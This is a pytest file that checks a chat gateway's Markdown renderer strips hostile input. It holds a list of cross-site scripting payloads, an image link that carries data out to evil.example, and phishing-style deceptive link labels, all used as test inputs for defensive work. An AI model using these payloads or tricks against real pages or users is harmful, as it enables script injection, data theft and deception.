from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.channels.web.markdown import QUICK_LIMIT, RENDER_LIMIT_BYTES, MarkdownRenderer

MARKDOWN = MarkdownRenderer()

TAGS = set("a blockquote br code em h1 h2 h3 h4 h5 h6 hr li ol p pre s strong table tbody td th thead tr ul".split())
ATTRIBUTES = {
    ("a", "href"), ("a", "title"), ("a", "rel"), ("a", "target"), ("code", "class"), ("ol", "start"),
    ("td", "align"), ("th", "align"),
}  # fmt: skip


class Reader(HTMLParser):
    """What a browser would find in it."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data


def assert_harmless(source: str) -> Reader:
    reader = Reader(source)
    for tag, attributes in reader.found:
        assert tag in TAGS, source
        for name, value in attributes.items():
            assert (tag, name) in ATTRIBUTES, source
            if name == "href":
                assert urlsplit(value).scheme in ("http", "https", "mailto"), source
            if name == "class":
                assert re.fullmatch(r"language-[\w+#.-]+", value), source
        if tag == "a":
            assert attributes["target"] == "_blank"
            assert set(attributes["rel"].split()) == {"noopener", "noreferrer", "nofollow"}
    return reader


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{background:url(http://x)}</style>",
    "<iframe src=//x></iframe><object data=x><embed src=x><base href=//x><form action=//x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x) [y](file:///etc/passwd) [z](blob:x)",
    "<javascript:alert(1)> <data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1)) ![y](data:image/svg+xml;base64,PHN2Zz4=)",
    '[x](http://a.b "t\\" onmouseover=\\"alert(1)")',
    '[x](http://a.b"onclick="alert(1))',
    "```\"><script>alert(1)</script>\n<script>\n```",
    "```x onclick=alert(1)\n```",
    "`<b>` **<b>** *a **b* c** ~~x ~~",
    "|a|b|\n|-|-|\n|<script>|<img src=x>|",
    "a<b <!-- x --> <![CDATA[x]]> <?php ?> </p></div>",
    "[a](http://x/[b](javascript:alert(1)))",
    "\x00<script\x00>alert(1)</script> \ufeff<script>",
    "* " * 200 + "<script>",
    "\u202e[x](http://a)",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_hostile_page_puts_into_a_reply_comes_out_harmless(text: str) -> None:
    """Scripts, handlers, dangerous addresses and broken markup are text or nothing."""
    assert_harmless(MARKDOWN.html(text))


_PIECES = st.sampled_from(
    [*HOSTILE, "<", ">", "\"", "'", "`", "```\n", "[", "](", ")", "![", "*", "_", "~~", "|", "\n", "\n\n", "    ", "> ",
     "- ", "1. ", "# ", "http://a.b", "&lt;", "&#60;", "\\", "a", " ", "<a href=", "onclick=", "javascript:"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(_PIECES, st.text(max_size=5)), max_size=30).map("".join))
def test_no_text_whatever_makes_anything_but_the_allowed_tags(text: str) -> None:
    """The allow-list holds for every mixture."""
    assert_harmless(MARKDOWN.html(text))


def test_an_image_is_a_link_that_nobody_loads() -> None:
    """An image of a foreign host would tell that host that the reply was read, and carry data out in its address."""
    reader = assert_harmless(MARKDOWN.html("![secret plan](http://evil.example/x.png?d=data)"))
    assert [tag for tag, _ in reader.found] == ["p", "a"]
    assert reader.text.strip() == "secret plan (evil.example)"
    nameless = assert_harmless(MARKDOWN.html("![](http://evil.example/x.png)"))
    assert nameless.text.strip() == "http://evil.example/x.png"
    linked = assert_harmless(MARKDOWN.html("[![badge](http://a/b.png)](http://c)"))
    assert [(tag, attributes.get("href")) for tag, attributes in linked.found] == [("p", None), ("a", "http://c")]
    assert linked.text.strip() == "badge (c)"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[your bank](https://evil.example/x)", "your bank (evil.example)"),
        ("[https://good.org](https://evil.org/)", "https://good.org (evil.org)"),
        ("[good.org.evil.org](https://evil.org/)", "good.org.evil.org (evil.org)"),
        ("[good.org](http://good.org@evil.org/)", "good.org (evil.org)"),
        ("[**bold** `c`](https://h.example)", "bold c (h.example)"),
        ("[x](https://\u0430pple.example)", "x (xn--pple-43d.example)"),
        ("[me](mailto:a@b.example)", "me (a@b.example)"),
        ("https://a.example/b", "https://a.example/b"),
        ("[a.example/b](https://a.example/b?c)", "a.example/b"),
        ("<a@b.example>", "a@b.example"),
    ],
)
def test_a_link_says_where_it_leads(text: str, shown: str) -> None:
    """Whatever its label pretends; look-alike letters are spelled out."""
    assert assert_harmless(MARKDOWN.html(text)).text.strip() == shown


def test_chat_markdown_is_rendered() -> None:
    """Headings, lists, tables with their alignment, code with its language, struck text, line breaks, addresses."""
    rendered = MARKDOWN.html(
        "# T\n\na\nb ~~c~~ **d** http://x.org/y.\n\n3. x\n\n|l|r|\n|:-|-:|\n|1|2|\n\n```c++\nx < y\n```\n"
    )
    for part in (
        "<h1>T</h1>", "a<br>\nb <s>c</s> <strong>d</strong>", ">http://x.org/y</a>.", '<ol start="3">',
        '<th align="left">l</th>', '<td align="right">2</td>', '<code class="language-c++">x &lt; y\n</code>',
    ):  # fmt: skip
        assert part in rendered


def test_names_of_files_are_no_links() -> None:
    """`setup.py` is not a host in Paraguay."""
    assert "<a" not in MARKDOWN.html("see setup.py, a.sh, example.com and me@example.com")


@pytest.mark.parametrize("depth", [*range(40, 60), 1000, 30_000])
@pytest.mark.parametrize("mark", ["> ", ">", "- "])
def test_deep_nesting_loses_no_text(mark: str, depth: int) -> None:
    """Blocks that are nested too deeply are shown as they are, and cost nothing."""
    text = mark * depth + "leaf"
    assert "leaf" in assert_harmless(MARKDOWN.html(text)).text


def test_a_nested_list_far_too_deep_loses_no_text() -> None:
    """The same by indentation."""
    text = "".join("  " * depth + f"- item{depth}\n" for depth in range(100))
    shown = assert_harmless(MARKDOWN.html(text)).text
    assert all(f"item{depth}" in shown for depth in range(100))


def test_text_over_the_limit_is_shown_as_it_is() -> None:
    """Rendering is work, and a reply can be as large as a model likes."""
    text = "**<b>** " * (RENDER_LIMIT_BYTES // 8 + 1)
    assert MARKDOWN.html(text) == f"<pre>{html.escape(text, quote=False)}</pre>"


async def test_a_rendering_is_remembered_and_memory_is_bounded() -> None:
    """The second socket gets the same text at once; old renderings are forgotten."""
    markdown = MarkdownRenderer()
    text = "word " * QUICK_LIMIT
    assert not markdown.is_quick(text)
    rendered = await markdown.html_soon(text)
    assert markdown.is_quick(text)
    assert markdown.html(text) is rendered
    for n in range(200):
        markdown.html(f"{n} " + "x" * RENDER_LIMIT_BYTES)
    assert not markdown.is_quick(text)
    markdown.close()
